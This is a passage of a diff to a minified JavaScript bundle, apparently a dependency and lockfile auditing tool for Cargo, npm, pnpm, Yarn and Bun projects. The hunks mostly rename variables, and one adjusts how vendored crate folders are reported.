-known13.count+=1,known13.oneVersion&&=known13.first.version===each.version,own!==void 0&&(known13.own=own,known13.owns+=1)}function keyOf(parts){return JSON.stringify(
-parts)}function edgesOf(entry,index,lockVersion){return stringsOf(member(entry,"dependencies")).map(item=>({text:item.value,target:resolve(item.value,index,lockVersion),
-at:item.at}))}function resolve(text3,index,lockVersion){const[,name="",version,source]=/^([^ ]*)(?: ([^ ]*)(?: \((.*)\))?)?$/s.exec(text3)??[],parts=[name,version,
-source&&writtenSource(source,lockVersion)],found12=index.get(keyOf(parts.filter(part=>part!==void 0)));if(!(found12===void 0||version===void 0&&!found12.oneVersion))
+known13.count+=1,known13.oneVersion&&=known13.first.version===each.version,own!==void 0&&(known13.own=own,known13.owns+=1)}function keyOf(parts2){return JSON.stringify(
+parts2)}function edgesOf(entry,index,lockVersion){return stringsOf(member(entry,"dependencies")).map(item=>({text:item.value,target:resolve(item.value,index,lockVersion),
+at:item.at}))}function resolve(text3,index,lockVersion){const[,name="",version,source]=/^([^ ]*)(?: ([^ ]*)(?: \((.*)\))?)?$/s.exec(text3)??[],parts2=[name,version,
+source&&writtenSource(source,lockVersion)],found12=index.get(keyOf(parts2.filter(part=>part!==void 0)));if(!(found12===void 0||version===void 0&&!found12.oneVersion))
 return found12.count===1?found12.first:found12.owns===1?found12.own:void 0}function writtenSource(text3,lockVersion){return(0,import_shared_ce.sourceWithoutCommit)(
 cargoSource(text3,lockVersion))}function repeatedKeys(file2){const parsed10=parseFile(file2);return parsed10.ok?parsed10.duplicates.map(({name,at:at2})=>({what:`${(0,import_shared_acegpst.code)(
 name)} stands twice in one object`,at:at2})):[]}function hiddenCrates(file2){const found12=compared.get(file2)??compare2(file2);return compared.set(file2,found12),
@@ -4695,7 +4716,7 @@ entries),shipped:platformsOf3(entries.filter(({kind})=>kind!=="dev"))}}function 
 filter(platform=>holds(target,platform)!==!1))}function manifestsByName({location,files}){const workspace=cargoWorkspace(location.root,files),local=localCrates(
 workspace,files),known13=new Set(local.map(({manifest:manifest2})=>manifest2.path)),beside=[...files.values()].flatMap(file2=>{if(!(baseName(file2.path)==="Carg\
 o.toml"&&!known13.has(file2.path))||!isMember(workspace,folderOf(file2.path)))return[];const manifest2=readManifest(file2);return manifest2===void 0?[]:[{manifest:manifest2,
-dependencies:dependenciesOf(manifest2,workspace.root)}]}),byName3=Map.groupBy([...local,...beside],({manifest:manifest2})=>manifest2.name??"");return new Map([...byName3].
+dependencies:dependenciesOf(manifest2,workspace.root)}]}),byName4=Map.groupBy([...local,...beside],({manifest:manifest2})=>manifest2.name??"");return new Map([...byName4].
 flatMap(([name,[first,...others]])=>first===void 0||others.length>0?[]:[[name,first.dependencies]]))}function neededCrates(base,head){const inBase=new Set(base.
 map(identityOf2)),known13=Map.groupBy(base,crate2=>crate2.name);return[...Map.groupBy(head.filter(crate2=>!inBase.has(identityOf2(crate2))),crate2=>crate2.name)].
 flatMap(([name,crates])=>{const old=known13.get(name)??[],risk=riskOf(name,old);return[...crates,...old].flatMap(crate2=>needOf(crate2,risk)??[])})}function riskOf(name,old){
@@ -4941,11 +4962,11 @@ plain(each)]));if(left2.length===0)return[];const message=`${(0,import_shared_ac
 not all that they set for the build is judged. Look at what changed, or write them in place.`;return[(0,import_shared_acegos.gapAt)(config.at,{kind:"not-checked",
 rests:(0,import_shared_acegos.wordsOf)("included settings",left2),message})]}function codeFolders({location,files}){const{settings:settings3}=cargoWorkspace(location.
 root,files),vendored=replacedSources(settings3).flatMap(({directory})=>directory??[]);return new Set([...vendored,...pathFolders(settings3)])}function vendoredGaps({
-location,files,contents}){const{settings:settings3}=cargoWorkspace(location.root,files);return[...Map.groupBy(replacedSources(settings3),({directory})=>directory??
-"")].flatMap(([folder,sources])=>gapOf2(folder,contents.at(folder),sources))}function gapOf2(folder,content,[first]){const at2=first?.lines.at(-1)?.at;if(folder===
-""||content===""||at2===void 0)return[];const message=`The build takes crates as they lie in ${(0,import_shared_acegpst.code)(folder)}, and no lockfile pins wha\
-t lies there: compare what changed with ${(0,import_shared_acegpst.code)("cargo vendor --locked")}.`;return[(0,import_shared_acegos.gapAt)(at2,{kind:"not-checke\
-d",rests:(0,import_shared_acegos.wordsOf)("vendored crates",folder,content),message})]}var cargoManifest={id:"cargo-manifest",scope:"app",layered:!1,files:FILES4,
+location,files,contents}){const{settings:settings3}=cargoWorkspace(location.root,files);return[...Map.groupBy(replacedSources(settings3),({directory})=>directory)].
+flatMap(([folder,sources])=>folder===null?[]:gapOf2(folder,contents.at(folder),sources))}function gapOf2(folder,content,[first]){const at2=first?.lines.at(-1)?.
+at;if(content===""||at2===void 0)return[];const message=`The build takes crates as they lie in ${(0,import_shared_acegpst.code)(folder||".")}, and no lockfile p\
+ins what lies there: compare what changed with ${(0,import_shared_acegpst.code)("cargo vendor --locked")}.`;return[(0,import_shared_acegos.gapAt)(at2,{kind:"not\
+-checked",rests:(0,import_shared_acegos.wordsOf)("vendored crates",folder,content),message})]}var cargoManifest={id:"cargo-manifest",scope:"app",layered:!1,files:FILES4,
 follows(project){const named12=new Set(oddlyNamed(project).map(({path})=>path)),programs4=programsOfSettings(project);return path=>named12.has(path)||programs4.
 has(path)},compares:codeFolders,read(project){const{location,files}=project,workspace=cargoWorkspace(location.root,files),crates=localCrates(workspace,files),patches=patchesOf(
 workspace),gaps=[...unreadManifests(project),...lostRoot(workspace,project),...lostSettings(workspace,project),...missingCrates(crates,patches,project),...developmentGaps(
@@ -4965,7 +4986,7 @@ null&&"tagName"in parentNode?parentNode.tagName:"",text:childNodes.map(child=>"v
 name,attributes:attributes2,text:text3}){const type=(attributes2.get("type")??"").trim();if(name!=="script"||attributes2.has("src")||!SCRIPT2.test(type))return[];
 const tokens=jsTokens(text3);if(typeof tokens=="number")return[...text3.matchAll(/["'`]((?:https?:|[/\\]{2})[^"'`\s]{1,2000})/gi)].map(([,address=""])=>address);
 const isMap=/^importmap$/i.test(type);return tokens.flatMap((token2,i2)=>token2.kind==="text"&&(isMap||isImported(tokens,i2))?[token2.text]:[])}function isImported(tokens,at2){
-const[before2,further]=[tokens[at2-1],tokens[at2-2]];return isWord(before2,/^(?:import|from)$/)||before2?.kind==="open"&&isWord(further,/^import$/)}function isWord(token2,words4){
+const[before3,further]=[tokens[at2-1],tokens[at2-2]];return isWord(before3,/^(?:import|from)$/)||before3?.kind==="open"&&isWord(further,/^import$/)}function isWord(token2,words4){
 return token2?.kind==="word"&&words4.test(token2.text)}function refreshTo({name,attributes:attributes2}){if(!(name!=="meta"||attributes2.get("http-equiv")?.trim().
 toLowerCase()!=="refresh"))return/^[\s\d.]*[;,\s]\s*(?:url\s*=\s*)?["']?([^"']*)/i.exec(attributes2.get("content")??"")?.[1]}var LONGEST_PAGE=1024*1024;function readPage(html){
 const elements2=elementsOf(html.slice(0,LONGEST_PAGE));return{hasStyle:elements2.some(({name})=>name==="style"),metaPolicies:metaPoliciesIn(elements2),foreignScripts:elements2.
@@ -5189,8 +5210,8 @@ const fault=faultOf(location,folded5);if(fault?.kind!=="truncated"&&folded5.add(
 entry));for(const gap3 of unreadFields(location,entry))gaps.push(gap3)}else gaps.push((0,import_shared_acegos.gapAt)(entry.key,{rests:(0,import_shared_acegos.wordsOf)(
 location,plain(entry.value)),...fault}))}for(const each of bundledIn(packages)){const hasAddress=each.lines.source!==each.at;(0,import_shared_ce.isOwnRegistry)(
 each.source)&&(each.integrity===null||!hasAddress)&&packages.set(each.location,{...each,source:import_shared_ce.BUNDLED,integrity:null})}return{packages,gaps}}function faultOf(location,known13){
-const parts=location.split("/",DEEPEST7+1);if(parts.length>DEEPEST7)return{kind:"truncated",message:`${(0,import_shared_acegpst.code)(location)} lies deeper tha\
-n npm would nest it and was not compared.`};const climbs=parts.findIndex(part=>part!==".."),inside=climbs<0?[""]:parts.slice(climbs);return(location===""||inside.
+const parts2=location.split("/",DEEPEST7+1);if(parts2.length>DEEPEST7)return{kind:"truncated",message:`${(0,import_shared_acegpst.code)(location)} lies deeper t\
+han npm would nest it and was not compared.`};const climbs=parts2.findIndex(part=>part!==".."),inside=climbs<0?[""]:parts2.slice(climbs);return(location===""||inside.
 every(part=>part!==""&&part!=="."&&part!==".."))&&!location.includes("\\")&&!known13.has(location.toLowerCase())?void 0:{kind:"not-followed",message:`${(0,import_shared_acegpst.code)(
 location)} is another spelling of a folder, so it isn't known which entry npm takes. Let npm write the lockfile anew.`}}function withoutStale(grants,locks,folders,commands2){
 const beside=Map.groupBy(locks,folderOf),unpinned4=grants.filter(grant2=>grant2.kind==="unpinned-package"),asked4=Map.groupBy(unpinned4,askedBy);return grants.filter(
@@ -5293,8 +5314,8 @@ isKnown(word2)?known13:import_shared_ce.INSTALLERS}var NAMES_FOLDER3=new Set(["p
 isnt isnta isntal isntall add ci clean-install ic install-clean isntall-clean","install-test it install-ci-test cit clean-install-test sit update up upgrade udp\
 ate rebuild rb dedupe ddp"].flatMap(line=>line.split(" ")));function installCommand(ran){if((ran.isPrinted?ran.targets:targetsOf(ran)).some(target=>/(?:^|[\\/])\.npmrc$/.
 test(target)))return writingSettings(ran);if(ran.words.some(word2=>VARIABLE3.test(word2)))return settingVariables(ran);const at2=ran.words.findIndex((word2,i2)=>MANAGERS3.
-test(word2)||mayBeManager(word2,ran.words[i2+1],ran)),manager=ran.words[at2];if(manager===void 0||ran.isPrinted)return;const parts=partsOf8(ran.words.slice(at2+
-1),/pnpm/.test(manager)),{words:words4}=parts;if(isRunner(manager))return runningOnce(manager,words4,ran);const flags2=parts.flags.map(flag=>isBunfig(flag,words4,
+test(word2)||mayBeManager(word2,ran.words[i2+1],ran)),manager=ran.words[at2];if(manager===void 0||ran.isPrinted)return;const parts2=partsOf8(ran.words.slice(at2+
+1),/pnpm/.test(manager)),{words:words4}=parts2;if(isRunner(manager))return runningOnce(manager,words4,ran);const flags2=parts2.flags.map(flag=>isBunfig(flag,words4,
 manager)?{...flag,name:"bunfig"}:flag);if(words4.length===0&&!manager.startsWith("yarn")||flags2.some(({name,value})=>/^(?:g|global)$/.test(name)&&value==="true"))
 return;const said2=[...flags2,...environmentOf2(ran),...settingsSet(words4)];return{folders:foldersOf3(ran,flags2),managers:words4.length===0||words4.some(word2=>INSTALLS2.
 has(word2))?managersIn(manager):[],settings:[...flagSettings(said2,ran),...runOnceSettings(manager,words4,ran),...packagesAdded(words4,ran),...approvedByCommand(
@@ -5319,8 +5340,8 @@ void 0||folders===null)return folders;if(named12==="\u2026")return null;const be
 resolved(folder,named12)??[])}function workflowsOfApp({files},runs2){const workflows2=[...files.values()].filter(({path})=>isWorkflow(path)),running=new Set(runs2.
 flatMap(({maker:maker2,commands:commands2})=>commands2.some(namesTauri)?[maker2.at.path]:[])),joined9=neighbours(workflows2),found12=new Set(workflows2.filter(({
 path,text:text3})=>/tauri/i.test(text3)||running.has(path)));for(const each of found12)for(const other of joined9.get(each)??[])found12.add(other);const paths3=new Set(
-[...found12].map(({path})=>path));return path=>paths3.has(path)}function neighbours(workflows2){const byName3=new Map(workflows2.map(file2=>[calledAs(file2.path),
-file2])),pairs=workflows2.flatMap(file2=>[...file2.text.matchAll(/\buses:\s*["']?\.\/([^\s"'#]+)/g)].flatMap(([,name=""])=>{const other=byName3.get(name.replace(
+[...found12].map(({path})=>path));return path=>paths3.has(path)}function neighbours(workflows2){const byName4=new Map(workflows2.map(file2=>[calledAs(file2.path),
+file2])),pairs=workflows2.flatMap(file2=>[...file2.text.matchAll(/\buses:\s*["']?\.\/([^\s"'#]+)/g)].flatMap(([,name=""])=>{const other=byName4.get(name.replace(
 /\/$/,""));return other===void 0?[]:[[file2,other],[other,file2]]}));return new Map([...Map.groupBy(pairs,([file2])=>file2)].map(([file2,all])=>[file2,all.map(([
 ,other])=>other)]))}function calledAs(path){return/^action\.ya?ml$/.test(baseName(path))?folderOf(path):path}function namesTauri({words:words4}){return/tauri/i.
 test(words4.join(" "))}function unreadWorkflows({files}){return[...files.values()].flatMap(file2=>{const{path,text:text3}=file2;return!(isWorkflow(path)&&/tauri/i.
@@ -5337,11 +5358,11 @@ function projectAbove(place,{contents}){return withAncestors(place).filter(folde
 {before:`const RAW_RUNTIME_STATE =
 '`,after:`';
 `,isText:!0},{before:"hydrateRuntimeState({",after:"}, {basePath: basePath || __dirname}",isText:!1}];function stateOf(name,text3){if(name===".pnp.data.json")return text3===
-""?void 0:text3;if(/^\.pnp\.c?js$/.test(name))for(const{before:before2,after:after2,isText:isText2}of BEGINNINGS){const start=text3.indexOf(before2);if(start<0)
-continue;const from=start+before2.length-(isText2?0:1),end=text3.indexOf(after2,from)+(isText2?0:1),state=end<=from?"":text3.slice(from,end);return dataIn(state)===
+""?void 0:text3;if(/^\.pnp\.c?js$/.test(name))for(const{before:before3,after:after2,isText:isText2}of BEGINNINGS){const start=text3.indexOf(before3);if(start<0)
+continue;const from=start+before3.length-(isText2?0:1),end=text3.indexOf(after2,from)+(isText2?0:1),state=end<=from?"":text3.slice(from,end);return dataIn(state)===
 void 0?void 0:state}}function programOf3(text3,state){const rest2=text3===state?"":text3.replace(state,()=>"");return JSON.stringify([rest2,strangePlaces(dataIn(
 state))])}function dataIn(state){try{return JSON.parse(unescaped(state)??state)}catch{return}}function unescaped(state){if(!state.startsWith(`{\\
-`))return;const parts=state.split("\\\\");return parts.every(part=>!/(?<!\\)'/.test(part))?parts.map(part=>part.replaceAll(`\\
+`))return;const parts2=state.split("\\\\");return parts2.every(part=>!/(?<!\\)'/.test(part))?parts2.map(part=>part.replaceAll(`\\
 `,"").replaceAll("\\'","'")).join("\\"):void 0}var OWN_PLACE=/^(?:\.\/\.yarn\/(?:__virtual__\/[^/]+\/0\/)?|\.\/\.yarn\/__virtual__\/[^/]+\/\d+\/(?:[^/]+\/)*\.?yarn\/berry\/|(?:\.\.\/)+(?:[^./][^/]*\/)*(?:\.yarn\/)?berry\/)(?:cache\/[^/]+\.zip|unplugged\/[^/]+)\/node_modules\/(?:@[^/]+\/)?[^/]+\/$/;
 function strangePlaces(data2){return listed(field2(data2,"packageRegistryData")).flatMap(named12=>{const[name,releases]=listed(named12);return listed(releases).
 flatMap(release=>{const[reference,info]=listed(release),place=field2(info,"packageLocation"),isOwn6=typeof place=="string"&&OWN_PLACE.test(place)&&!place.includes(
@@ -5407,8 +5428,8 @@ kind==="git"?source.commit:null;return commit!==null&&commit!==""&&/^[\w.-]+$/.t
 const[,algorithm="",digest="",pad]=HASH.exec(text3)??[],whole2=HASHES.get(algorithm);return whole2!==void 0&&digest.length===whole2.size&&pad===whole2.pad}function uncheckedHash(path,at2,entry){
 const message=`The hash of the entry ${(0,import_shared_acegpst.code)(path)} is none that Bun checks, so nothing pins what is fetched. ${REMEDY2}`;return(0,import_shared_acegos.gapAt)(
 at2,{kind:"not-followed",rests:(0,import_shared_acegos.wordsOf)("bun hash",path,plain(entry)),message})}function emptyTree(){return{name:"",parent:null,inside:new Map,
-held:null}}var DEEPEST8=128;function namesIn3(path){const parts=path.split("/",2*DEEPEST8+1),names4=[];for(let at2=0;at2<parts.length;at2++){const part=parts[at2]??
-"";names4.push(part.startsWith("@")?`${part}/${parts[++at2]??""}`:part)}return names4.length>DEEPEST8?void 0:names4}function folderAt(tree,names4){return names4.
+held:null}}var DEEPEST8=128;function namesIn3(path){const parts2=path.split("/",2*DEEPEST8+1),names4=[];for(let at2=0;at2<parts2.length;at2++){const part=parts2[at2]??
+"";names4.push(part.startsWith("@")?`${part}/${parts2[++at2]??""}`:part)}return names4.length>DEEPEST8?void 0:names4}function folderAt(tree,names4){return names4.
 reduce((folder,name)=>{const known13=folder.inside.get(name);if(known13!==void 0)return known13;const made2={...emptyTree(),name,parent:folder};return folder.inside.
 set(name,made2),made2},tree)}function heldFor(folder,name){for(let at2=folder;at2!==null;at2=at2.parent){const held3=at2.inside.get(name)?.held;if(held3!=null)return held3}
 return null}function workspacesIn(table2){const gaps=[],names4=new Set;return{workspaces:[...table2.entries].map(([folder,{key:at2,value}])=>{const name=asString(
@@ -5638,80 +5659,81 @@ return[];const fields3=documentFields(format,isEnvironment),top2={key:(0,import_
 {kind:"document",name:"pnpm-lock.yaml"},top2,fields3));const instances=instancesIn(document,format,releases,gaps);return(isEnvironment?environmentIn2:importersIn)(
 document,format,gaps).map(each=>answered(each,format,instances,releases,gaps))}function asked(descriptor){const end=descriptor.indexOf("@",1);return end<0?null:
 {name:descriptor.slice(0,end),text:descriptor.slice(end+1)}}function isUnpinned(source){return source.kind==="git"&&source.commit===null}function pathFrom(folder,path){
-if(/^[/~\\]|^[A-Za-z]:|\\/.test(path))return null;const parts=[];for(const part of`${folder}/${path}`.split("/"))part===""||part==="."||(part===".."&&parts.length>
-0&&parts.at(-1)!==".."?parts.pop():parts.push(part));return parts.join("/")}var text2=(pattern,words4)=>({is:value=>value.kind==="string"&&pattern.test(value.value),
-words:words4}),TEXTS3={is:value=>isTable2(value,({kind})=>kind==="string"),words:"a table of texts"},SWITCHES2={is:value=>isTable2(value,each=>isTable2(each,isSwitch2,
-/^(?:optional|built|unplugged)$/)),words:"a table of switches"},CLASSIC=new Map([["version",text2(/./,"a version")],["resolved",text2(/^[\x21-\x7e]+$/,"an addre\
-ss")],["integrity",{is:value=>value.kind==="string"&&isIntegrity(value.value),words:"a list of hashes"}],["uid",text2(/^[0-9a-f]*$/,"a commit")],["dependencies",
-TEXTS3],["optionalDependencies",TEXTS3]]),BERRY=new Map([["version",text2(/./,"a version")],["resolution",text2(/^.+$/,"a locator")],["checksum",text2(/^(?:[0-9a-z]+\/)?[0-9a-f]{32,}$/,
-"a hash")],["languageName",text2(/^(?:node|unknown)$/,"`node` or `unknown`")],["linkType",text2(/^(?:hard|soft)$/,"`hard` or `soft`")],["conditions",text2(/^[\w=!&|() -]+$/,
-"a list of platforms")],["dependencies",TEXTS3],["peerDependencies",TEXTS3],["dependenciesMeta",SWITCHES2],["peerDependenciesMeta",SWITCHES2],["bin",{is:value=>isTable2(
-value,isInside),words:"a table of files of the package"}]]),METADATA=new Map([["version",text2(/^\d{1,3}$/,"a number")],["cacheKey",text2(/^[0-9a-z]+$/,"a key")]]),
-KNOWN2={classic:CLASSIC,berry:BERRY,metadata:METADATA};function unreadFields4(style,{entries}){const faults2=[];for(const[field3,{value}]of entries){const shape=KNOWN2[style].
-get(field3);shape===void 0?faults2.push({field:field3,reason:"isn't read, and Yarn may run or fetch what it says."}):shape.is(value)||faults2.push({field:field3,
-reason:`isn't ${shape.words}, so Yarn may read it in another way.`})}return faults2}function isTable2(value,isRight,names4=/./){return value.kind==="object"&&[...value.
-entries].every(([name,entry])=>names4.test(name)&&isRight(entry.value))}function isSwitch2(value){return value.kind==="string"&&/^(?:true|false)$/.test(value.value)}
-function isInside(value){return value.kind==="string"&&!/^\/|(?:^|\/)\.\.(?:\/|$)|\\|^[A-Za-z]:/.test(value.value)}var COMMIT2=/^(?:[0-9a-f]{40}|[0-9a-f]{64})$/,
-GITHUB_ARCHIVE=/^https:\/\/codeload\.github\.com\/([^/?#]+\/[^/?#]+)\/tar\.gz\/([0-9a-f]{40})$/;function addressSource({name,version},url){const[,repository,commit]=GITHUB_ARCHIVE.
-exec(url)??[];return repository!==void 0&&commit!==void 0?gitSource2(`https://github.com/${repository}`,commit):npmSource({name,version,resolved:url,local:!1})}
-function gitSource2(repository,commit,reference=""){const[,host,path]=/^[\w.-]+@([\w.-]+):(?!\/)(.+)$/.exec(repository)??[],address=host===void 0?repository:`ss\
-h://git@${host}/${path}`,resolved4=/^git[:+]/.test(address)?address:`git+${address}`,source=npmSource({name:"",version:"",resolved:resolved4,local:!1});return source.
-kind!=="git"?{kind:"unknown",text:repository}:{...source,commit:commit!==null&&COMMIT2.test(commit)?commit:null,reference}}function fileSource(path){return{kind:"\
-tarball",url:`file:${path}`}}function isArchivePath(path){return/\.(?:tgz|tar|tar\.gz)$/i.test(path)}var DEEPEST9=8,MOST_PATCHES=16,REFERENCE=/^([^#:]*:)?((?:(?!::)[^#])*)(?:#((?:(?!::).)*))?(?:::(.*))?$/,
-LOCATOR=/^((?:@[^/]+?\/)?[^@/]+?)@(.+)$/,OWN_PROTOCOL=/^(?:npm|workspace|link|portal|file|patch|exec):/,BUILTIN=/^(?:optional!|~)?builtin<compat\/[a-z-]+>$/,ARCHIVE=/^https?:\/\/[^?#]+\.(?:tgz|tar\.gz)(?:\?[^#]*)?$/;
-function located(locator,version,depth=0){const[,name,text3]=LOCATOR.exec(locator)??[];if(name===void 0||text3===void 0||depth>DEEPEST9)return null;if(!OWN_PROTOCOL.
-test(text3)&&/#(?:[^#]*&)?commit=/.test(text3))return gitAt(name,text3);const parts=partsOf10(text3);return parts===null?null:byProtocol({name,text:text3,version,
-...parts},depth)}function byProtocol(reference,depth){const{name,version,text:text3,selector,params,source}=reference;switch(reference.protocol){case"npm:":return source===
-null?releaseAt(name,selector,params):null;case"workspace:":return source===null&&has2(params)?folderAt2(name,pathFrom("",selector),"project"):null;case"link:":case"\
-portal:":return source===null&&has2(params,"locator")?folderAt2(name,pathIn(reference,depth),"soft"):null;case"file:":return has2(params,"hash","locator")?fileAt(
-reference,depth):null;case"patch:":return has2(params,"version","hash","locator")?patchedAt(reference,depth):null;case"exec:":return packageAt2(name,{kind:"unkn\
-own",text:text3});case"https:":case"http:":return ARCHIVE.test(text3)||/^https:\/\/codeload\.github\.com\//.test(text3)?packageAt2(name,addressSource({name,version},
-text3)):null;default:return null}}function partsOf10(text3){const[,protocol="",body="",selector,query]=REFERENCE.exec(text3)??[],params=paramsIn(query);try{const source=selector===
-void 0?null:decodeURIComponent(body);return params&&{protocol,source,selector:decodeURIComponent(selector??body),params}}catch{return null}}function paramsIn(query){
-const pairs=[...new URLSearchParams(query??"")],params=new Map(pairs);return params.size===pairs.length?params:null}function has2(params,...known13){return[...params.
-keys()].every(name=>known13.includes(name))}function packageAt2(name,source,version=null){return{name,source,version,kind:"package",isSoft:!1,target:null,patches:[]}}
-function releaseAt(name,version,params){if(!isVersion(version)||!has2(params,"__archiveUrl"))return null;const archive=params.get("__archiveUrl");return packageAt2(
-name,archive?addressSource({name,version},archive):import_shared_ce.OWN_REGISTRY,version)}function gitAt(name,text3){const[repository="",...rest2]=text3.split("\
-#"),params=new URLSearchParams(rest2.join("#")),commits=params.getAll("commit");return params.delete("commit"),params.sort(),packageAt2(name,gitSource2(repository,
-commits.length===1?commits[0]??null:null,`${params}`))}function folderAt2(name,target,as){if(target===null)return null;const kind=as==="project"?"project":"pack\
-age";return{...packageAt2(name,import_shared_ce.THIS_REPOSITORY),kind,isSoft:as!=="copied",target}}function fileAt(reference,depth){const path=reference.source===
-null||reference.source===reference.selector?pathIn(reference,depth):null;return path===null||!isArchivePath(path)?folderAt2(reference.name,path,"copied"):packageAt2(
-reference.name,fileSource(path))}function pathIn({selector,params},depth){const folder=askingFolder(params,depth);return folder===null?null:pathFrom(folder,selector)}
-function askingFolder(params,depth){const parent=params.get("locator");return parent===void 0?"":located(parent,"",depth+1)?.target??null}function patchedAt({source,
-version,selector,params},depth){const written6=selector.split("&",MOST_PATCHES+1);if(written6.length>MOST_PATCHES)return null;const inner=source===null?null:located(
-source,version,depth+1);if(inner===null||inner.kind==="project")return null;const folder=askingFolder(params,depth),paths3=written6.filter(patch=>!BUILTIN.test(
-patch)).map(patch=>patchPath(patch,folder)),patches=paths3.filter(path=>path!==null);return patches.length<paths3.length?null:{...inner,kind:"patched",patches:[
-...inner.patches,...patches]}}function patchPath(written6,folder){const patch=written6.slice(written6.lastIndexOf("!")+1);return patch===""||/[<>]/.test(patch)?
-null:patch.startsWith("~/")?pathFrom("",patch.slice(2)):folder===null?null:pathFrom(folder,patch)}var OF_FOLDER="0.0.0",OF_FOLDER_IN_BERRY="0.0.0-use.local";function berryEntries(block,cacheKey){
-const faults2=unreadFields4("berry",block.fields),text3=field3=>asString(member(block.fields,field3)),[locator,version]=[text3("resolution")??"",text3("version")??
-""],found12=located(locator,version);if(found12===null)return faults2.push({field:"resolution",reason:"says nothing that Yarn is known to write."}),{entries:[],
-faults:faults2};const fault=faultOf4(block,found12,version);fault!==void 0&&faults2.push(fault);const{name,source,kind,target}=found12,at2=member(block.fields,"\
-resolution")?.at??block.fields.at;return{entries:[{block,locator,name,source,kind,target,descriptors:block.descriptors,version:found12.version??(found12.isSoft?
-OF_FOLDER:version),integrity:keyed(text3("checksum"),cacheKey),wants:wantsOf(block),patches:found12.patches.map(value=>({name:"patch",value,at:at2,of:name}))}],
-faults:faults2}}function keyed(checksum,cacheKey){return checksum===void 0?null:checksum.includes("/")||cacheKey===void 0?checksum:`${cacheKey}/${checksum}`}function faultOf4(block,found12,version){
-if(!isPackageName(found12.name))return{field:"resolution",reason:"names no package that could be published."};if(isUnpinned(found12.source))return{field:"resolu\
-tion",reason:"names no commit that pins it."};if(asString(member(block.fields,"linkType"))!==(found12.isSoft?"soft":"hard"))return{field:"linkType",reason:"isn'\
-t what Yarn writes for such a package."};if(!((found12.isSoft?version===OF_FOLDER_IN_BERRY:isVersion(version))&&(found12.version??version)===version))return{field:"\
-version",reason:"isn't the version that Yarn would write there."}}function wantsOf(block){const wanted=member(block.fields,"dependencies");return wanted?.kind!==
-"object"?[]:[...wanted.entries].map(([name,{value}])=>{const isOptional=asString(pick(block.fields,"dependenciesMeta",name,"optional"))==="true";return{name,text:asString(
-value)??"",isOptional}})}function classicEntries(block){const faults2=unreadFields4("classic",block.fields),byName3=Map.groupBy(block.descriptors,realName),entries=[];
-for(const[name,descriptors]of byName3){isPackageName(name)||faults2.push({field:null,reason:"asks for no package that could be published."});const entry=entryOf4(
-block,name,descriptors),fault=faultOf5(entry);fault!==void 0&&faults2.push(fault),entries.push(entry)}return{entries,faults:faults2}}function realName(descriptor){
-const{name,text:text3}=asked(descriptor)??{name:descriptor,text:""};return/^npm:(@?[^@]*)/.exec(text3)?.[1]??name}function entryOf4(block,name,descriptors){const text3=field3=>asString(
-member(block.fields,field3)),[version,resolved4]=[text3("version")??"",text3("resolved")],target=resolved4===void 0?folderOf2(descriptors):null,source=target===
-null?sourceOf5({name,version},resolved4??""):import_shared_ce.THIS_REPOSITORY;return{block,descriptors,name,version,source,target,kind:"package",locator:null,patches:[],
-integrity:integrityOf(text3("integrity"),resolved4,source),wants:wantsOf2(block)}}function folderOf2(descriptors){const folders=new Set(descriptors.map(folderIn2)),
-[folder=null]=folders;return folders.size===1?folder:null}function folderIn2(descriptor){const[,path]=/^(?:file:|link:|(?=\.{1,2}\/))(.*)$/.exec(asked(descriptor)?.
-text??"")??[];return path===void 0?null:pathFrom("",path)}function sourceOf5(release,resolved4){const[url="",hash=null]=resolved4.split("#");if(/^(?:git(?:\+[a-z0-9]+)?|ssh):/.
-test(url)||url.endsWith(".git")&&!url.includes("?"))return gitSource2(url,hash);if(!url.startsWith("file:"))return addressSource(release,url);const path=pathFrom(
-"",url.slice(5));return path===null?{kind:"unknown",text:url}:fileSource(path)}function integrityOf(written6,resolved4,source){if(written6!==void 0)return isIntegrity(
-written6)?written6:null;const sha1=/^[^#]*#([0-9a-f]{40})(?:#|$)/.exec(resolved4??"")?.[1];return sha1===void 0||source.kind==="git"?null:`sha1-${base64(sha1)}`}
-function base64(hex){const bytes=Array.from({length:hex.length/2},(_3,at2)=>Number.parseInt(hex.slice(2*at2,2*at2+2),16));return btoa(String.fromCharCode(...bytes))}
-function wantsOf2(block){return[["dependencies",!1],["optionalDependencies",!0]].flatMap(([table2,isOptional])=>{const wanted=member(block.fields,table2);return wanted?.
-kind!=="object"?[]:[...wanted.entries].map(([name,{value}])=>({name,text:asString(value)??"",isOptional}))})}function faultOf5({block,version,source,target}){if(!isVersion(
-version))return{field:"version",reason:"isn't a version."};if(isUnpinned(source))return{field:"resolved",reason:"names no commit that pins it."};if(!(target!==null||
-member(block.fields,"resolved")!==void 0))return{field:null,reason:"has no address (`resolved`), so that Yarn takes the newest release that fits."}}var MOST_GAPS=1e3,
-RELATIVE_TO="::locator=",LONGEST_TOLD=200,MOST_GUESSES=8,YarnGraph=class{#file;#style;#drafts=new Map;#keys=new Map;#counts=new Map;#answers=new Map;#relative=new Map;#encoded=new Map;#byName=null;#projects=new Map;#locators=new Map;#entries;#gaps=[];constructor(file2,style,entries){
+if(/^[/~\\]|^[A-Za-z]:|\\/.test(path))return null;const parts2=[];for(const part of`${folder}/${path}`.split("/"))part===""||part==="."||(part===".."&&parts2.length>
+0&&parts2.at(-1)!==".."?parts2.pop():parts2.push(part));return parts2.join("/")}var text2=(pattern,words4)=>({is:value=>value.kind==="string"&&pattern.test(value.
+value),words:words4}),TEXTS3={is:value=>isTable2(value,({kind})=>kind==="string"),words:"a table of texts"},SWITCHES2={is:value=>isTable2(value,each=>isTable2(each,
+isSwitch2,/^(?:optional|built|unplugged)$/)),words:"a table of switches"},CLASSIC=new Map([["version",text2(/./,"a version")],["resolved",text2(/^[\x21-\x7e]+$/,
+"an address")],["integrity",{is:value=>value.kind==="string"&&isIntegrity(value.value),words:"a list of hashes"}],["uid",text2(/^[0-9a-f]*$/,"a commit")],["depe\
+ndencies",TEXTS3],["optionalDependencies",TEXTS3]]),BERRY=new Map([["version",text2(/./,"a version")],["resolution",text2(/^.+$/,"a locator")],["checksum",text2(
+/^(?:[0-9a-z]+\/)?[0-9a-f]{32,}$/,"a hash")],["languageName",text2(/^(?:node|unknown)$/,"`node` or `unknown`")],["linkType",text2(/^(?:hard|soft)$/,"`hard` or `\
+soft`")],["conditions",text2(/^[\w=!&|() -]+$/,"a list of platforms")],["dependencies",TEXTS3],["peerDependencies",TEXTS3],["dependenciesMeta",SWITCHES2],["peer\
